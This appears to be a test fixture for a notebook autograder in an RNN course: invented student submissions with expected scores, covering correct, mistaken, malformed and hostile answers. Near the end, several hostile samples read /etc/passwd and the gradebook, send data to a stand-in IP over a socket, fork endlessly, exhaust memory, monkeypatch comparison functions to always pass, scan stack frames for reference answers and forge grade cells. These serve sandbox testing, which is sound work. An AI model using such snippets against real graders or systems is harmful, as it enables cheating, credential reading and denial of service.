@@ -1,0 +1,287 @@
+"""An invented class: what each student hands in for lessons 02 and 03, and what it deserves.
+
+Right in several styles, half right, wrong in known ways, broken on the way, and hostile.
+"""
+
+import ast
+import json
+import re
+from copy import deepcopy
+from dataclasses import dataclass, field
+
+import nbformat
+
+from rnnkit.exercises import find
+
+LESSONS = ("02_the_recurrent_cell", "03_backpropagation_through_time")
+NAMES = ("Ada", "Bela", "Chen", "Dara", "Emre", "Finn", "Gita", "Hugo", "Ines", "Juri", "Kofi", "Lena", "Mina", "Nico",
+         "Olga", "Pia", "Quin", "Rosa", "Sven", "Tara")  # the last two hand in nothing
+STUDENTS = dict(enumerate(NAMES, start=4101))
+SOLUTION = re.compile(r"^.*### (BEGIN|END) SOLUTION.*\n?", re.MULTILINE)
+
+LOOPS = {
+    "rnn_step": """
+def rnn_step(x, h, W_x, W_h, b):
+    h_next = np.zeros((len(h), len(b)))
+    for n in range(len(h)):
+        for j in range(len(b)):
+            h_next[n, j] = np.tanh(np.dot(x[n], W_x[:, j]) + np.dot(h[n], W_h[:, j]) + b[j])
+    return h_next, (x, h, h_next, W_x, W_h)
+""",
+    "rnn_forward": """
+def rnn_forward(x, h0, W_x, W_h, b):
+    h = np.zeros((len(x), *h0.shape))
+    cache = []
+    for t in range(len(x)):
+        h[t], c = rnn_step(x[t], h0 if t == 0 else h[t - 1], W_x, W_h, b)
+        cache.append(c)
+    return h, cache
+""",
+    "readout": """
+def readout(h, W_y, b_y):
+    return np.array([[W_y.T @ row + b_y for row in h_t] for h_t in h])
+""",
+}
+WHOLE_ARRAYS = {
+    "numerical_gradient": """
+def numerical_gradient(f, x, eps=1e-6):
+    moves = eps * np.eye(x.size).reshape(-1, *x.shape)
+    return np.array([f(x + move) - f(x - move) for move in moves]).reshape(x.shape) / (2 * eps)
+""",
+    "rnn_step_backward": """
+def rnn_step_backward(dh_next, cache):
+    x, h, h_next, W_x, W_h = cache
+    da = dh_next - dh_next * h_next ** 2
+    both = np.concatenate([x, h], axis=1).T @ da
+    return da @ W_x.T, da @ W_h.T, both[:x.shape[1]], both[x.shape[1]:], np.ones(len(x)) @ da
+""",
+    "rnn_backward": """
+def rnn_backward(dh, cache):
+    dx, back, sums = [], 0, [0, 0, 0]
+    for dh_t, kept in zip(dh[::-1], cache[::-1]):
+        dx_t, back, *parts = rnn_step_backward(dh_t + back, kept)
+        dx.insert(0, dx_t)
+        sums = [total + part for total, part in zip(sums, parts)]
+    return np.array(dx), back, *sums
+""",
+}
+PREALLOCATED = """
+def rnn_forward(x, h0, W_x, W_h, b):
+    T, (N, H) = len(x), h0.shape
+    h, cache = np.empty((T + 1, N, H)), [None] * T
+    h[0] = h0
+    for t in range(T):
+        h[t + 1], cache[t] = rnn_step(x[t], h[t], W_x, W_h, b)
+    return h[1:], cache
+"""
+CHANGES_ITS_INPUT = """
+def readout(h, W_y, b_y):
+    h @= np.eye(h.shape[-1])
+    h *= 2
+    return h @ W_y / 2 + b_y
+"""
+FRAMES = """
+import sys
+
+def rnn_backward(dh, cache):
+    frame = sys._getframe()
+    while frame:
+        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
+            if isinstance(value, dict) and "dW_h" in value:
+                return tuple(value[name] for name in ("dx", "dh0", "dW_x", "dW_h", "db"))
+        frame = frame.f_back
+    x, h, h_next, W_x, W_h = cache[0]
+    return x + 0 * dh[..., :1], h, W_x, W_h, h[0]
+"""
+READS = """
+stolen = []
+for path in ("/etc/passwd", {gradebook!r}):
+    try:
+        stolen.append(open(path, "rb").read())
+    except OSError:
+        pass
+assert not stolen, "the sandbox leaks"
+"""
+CONNECTS = """
+import socket
+try:
+    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(b"the answers, please")
+except OSError:
+    pass
+"""
+FORKS = """
+import os
+try:
+    while True:
+        os.fork()
+except OSError:
+    pass
+"""
+EXITS = """
+import os
+
+def rnn_backward(dh, cache):
+    os._exit(0)
+"""
+HANGS = """
+def rnn_backward(dh, cache):
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass
+"""
+HOARDS = """
+def rnn_backward(dh, cache):
+    hoard = []
+    while True:
+        hoard.append(np.ones(10 ** 6))
+"""
+IMPORTS = """
+from rnnkit import rnn_backward as theirs
+
+def rnn_backward(dh, cache):
+    return theirs(dh, cache)
+"""
+PATCHES = """
+np.allclose = np.array_equal = np.testing.assert_allclose = lambda *arrays, **settings: True
+"""
+ESSAY = """Every step multiplies by the same matrix, so a nudge of W_h nudges all of its uses at once. Their effects on
+the loss add up, as the chain rule says for a variable that enters a function in several places. With = only one of
+these terms is left in the end: the loop runs backwards, so it is the term of the first step."""
+
+
+@dataclass(frozen=True)
+class HandedIn:
+    """One submission, and what it deserves: points in the order of the lesson's exercises.
+
+    what: it, in a few words. flag: a part of one that it raises, "" where it raises none. essay: whether one waits
+    for a person.
+    """
+
+    what: str
+    data: bytes = field(repr=False)
+    points: tuple
+    status: str = "judged"
+    flag: str = ""
+    essay: bool = False
+    file: str = ""
+
+
+def the_class(course):
+    """Lesson -> the submissions of its students, in the order of STUDENTS."""
+    step, back = (Maker(course.lesson(name)) for name in LESSONS)
+    return {LESSONS[0]: list(lesson_02(step)), LESSONS[1]: list(lesson_03(back, str(course.folder / "gradebook.db")))}
+
+
+class Maker:
+    """Makes notebooks out of a lesson's student edition."""
+
+    def __init__(self, lesson):
+        self.lesson = lesson
+        self.model = {cell.metadata.nbgrader.grade_id: SOLUTION.sub("", cell.source)
+                      for cell in lesson.instructor.cells if cell.metadata.get("nbgrader", {}).get("solution")}
+        for essay in lesson.essays:
+            del self.model[essay]
+
+    def wrong(self, **mistakes):
+        """The model answers, but for each exercise named the reference with the edit of this known mistake."""
+        return self.model | {name: mistaken(find(name), mistake) for name, mistake in mistakes.items()}
+
+    def notebook(self, answers, before=""):
+        """The student edition with these answers in it; before: what stands at the top of each answer's cell."""
+        made = deepcopy(self.lesson.student)
+        for cell in made.cells:
+            name = cell.metadata.get("nbgrader", {}).get("grade_id")
+            if name in answers:
+                cell.source = (before + answers[name] if name not in self.lesson.essays else answers[name]).strip("\n")
+        return made
+
+    def file(self, answers, before=""):
+        return as_file(self.notebook(answers, before))
+
+    def cell(self, notebook, name):
+        return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name)
+
+
+def mistaken(exercise, mistake):
+    """The reference's text with the mistake's edit in it, as a student writes: no decorator, no annotations."""
+    edit = next(each for each in exercise.misconceptions if each.id == mistake)
+    [function] = ast.parse(exercise.text.replace(edit.right, edit.wrong)).body
+    function.decorator_list = []
+    for argument in function.args.args:
+        argument.annotation = None
+    return ast.unparse(function)
+
+
+def as_file(notebook):
+    return json.dumps(notebook, indent=1).encode()
+
+
+def lesson_02(make):
+    right, model = make.file(make.model), make.model
+    yield HandedIn("the model answers", right, (4, 5, 3))
+    yield HandedIn("right, entry by entry in loops", make.file(LOOPS), (4, 5, 3))
+    yield HandedIn("right, into arrays made before", make.file(model | {"rnn_forward": PREALLOCATED}), (4, 5, 3))
+    changing = make.file(model | {"readout": CHANGES_ITS_INPUT})
+    yield HandedIn("right, but readout changes its input", changing, (4, 5, 2.7))
+    yield HandedIn("no tanh", make.file(make.wrong(rnn_step="no-tanh")), (0, 0, 3))
+    yield HandedIn("W_h transposed", make.file(make.wrong(rnn_step="transposed")), (0, 0, 3))
+    yield HandedIn("every step from h0, last state read", make.file(make.wrong(
+        rnn_forward="h0-at-every-step", readout="last-step-only")), (4, 0, 0))
+    squeezed = model["readout"].replace("h @ W_y", "np.squeeze(h) @ W_y")
+    yield HandedIn("readout squeezes axes away", make.file(model | {"readout": squeezed}), (4, 5, 2.4))
+    yield HandedIn("rnn_step only", make.file({"rnn_step": model["rnn_step"]}), (4, 0, 0))
+    yield HandedIn("blank", make.file({}), (0, 0, 0))
+    broken = model["rnn_forward"].replace("):", ")", 1)
+    yield HandedIn("a syntax error in rnn_forward", make.file(model | {"rnn_forward": broken}), (4, 0, 3))
+    yield HandedIn("half a file", right[: len(right) // 2], (0, 0, 0), "unreadable")
+    yield HandedIn("an empty file", b"", (0, 0, 0), "unreadable")
+    twice = make.notebook(model)
+    twice.cells.insert(twice.cells.index(make.cell(twice, "rnn_step")), make.cell(twice, "rnn_step"))
+    yield HandedIn("a cell twice", as_file(twice), (4, 5, 3))
+    windows = right.replace(b"\\n", b"\\r\\n").replace(b"\n", b"\r\n")
+    yield HandedIn("Windows line ends", windows, (4, 5, 3))
+    old = nbformat.convert(make.notebook(model), 3)
+    yield HandedIn("an nbformat of 2014", as_file(old), (4, 5, 3))
+    yield HandedIn("a file of another name", right, (4, 5, 3), file="my homework final (2).ipynb")
+    patched = make.file(make.wrong(rnn_step="transposed"), PATCHES)
+    yield HandedIn("patches np.allclose, W_h transposed", patched, (0, 0, 3))
+
+
+def lesson_03(make, gradebook):
+    model = make.model
+    yield HandedIn("the model answers, and the essay", make.file(model | {"why-gradients-add": ESSAY}), (4, 4, 5),
+                   essay=True)
+    yield HandedIn("right, in whole arrays; no essay", make.file(WHOLE_ARRAYS), (4, 4, 5))
+    lost = make.notebook(model)
+    for cell in lost.cells:
+        cell.metadata = {}
+        del cell["id"]
+    yield HandedIn("right, metadata and ids lost", as_file(lost), (4, 4, 5))
+    yield HandedIn("the carry lost", make.file(make.wrong(rnn_backward="carry-lost")), (4, 4, 0))
+    yield HandedIn("the carry lost, too", make.file(make.wrong(rnn_backward="carry-lost")), (4, 4, 0))
+    yield HandedIn("= for +=, one-sided", make.file(make.wrong(
+        rnn_backward="only-the-first-step", numerical_gradient="one-sided")), (0, 4, 1.6))
+    yield HandedIn("dW_h transposed", make.file(make.wrong(rnn_step_backward="dW_h-transposed")), (4, 2.88, 3.2))
+    yield HandedIn("numerical_gradient only", make.file({"numerical_gradient": model["numerical_gradient"]}), (4, 0, 0))
+    yield HandedIn("walks the frames for the answer", make.file(model | {"rnn_backward": FRAMES}), (4, 4, 0))
+    yield HandedIn("reads /etc/passwd and the gradebook", make.file(model, READS.format(gradebook=gradebook)),
+                   (4, 4, 5), flag="reach a file outside")
+    yield HandedIn("opens a socket", make.file(model, CONNECTS), (4, 4, 5), flag="network")
+    yield HandedIn("forks for ever", make.file(model, FORKS), (4, 4, 5), flag="start a process")
+    yield HandedIn("ends the process", make.file(model | {"rnn_backward": EXITS}), (4, 4, 0))
+    yield HandedIn("an endless loop", make.file(model | {"rnn_backward": HANGS}), (4, 4, 0))
+    yield HandedIn("fills the memory", make.file(model | {"rnn_backward": HOARDS}), (4, 4, 0))
+    yield HandedIn("imports rnnkit's rnn_backward", make.file(model | {"rnn_backward": IMPORTS}), (4, 4, 0))
+    forged = make.notebook({})
+    check = make.cell(forged, "check-rnn_backward")
+    check.source, check.metadata.nbgrader["points"] = "500.0", 500
+    card = "rnn_backward" + "5 of 5 points".rjust(76)
+    check.outputs = [{"output_type": "display_data", "metadata": {}, "data": {"text/plain": card}}]
+    yield HandedIn("edits the check, its points and its card", as_file(forged), (0, 0, 0), flag="notebook shows 5")
+    flood = make.notebook(model, "print('spam ' * 6_000_000)\n")
+    make.cell(flood, "rnn_backward").outputs = [
+        {"output_type": "stream", "name": "stdout", "text": "spam " * 6_000_000}]
+    yield HandedIn("prints 30 MB", as_file(flood), (4, 4, 5))
